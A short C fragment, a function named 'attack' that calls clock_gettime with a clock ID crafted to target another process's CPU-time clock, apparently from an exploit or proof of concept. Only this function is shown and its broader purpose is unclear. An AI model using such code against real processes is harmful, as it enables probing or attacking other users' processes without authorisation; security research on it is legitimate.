long attack(void)
{
    struct timespec now;
    return call(SYS_clock_gettime, (~VICTIM << 3) | 2, &now);
}
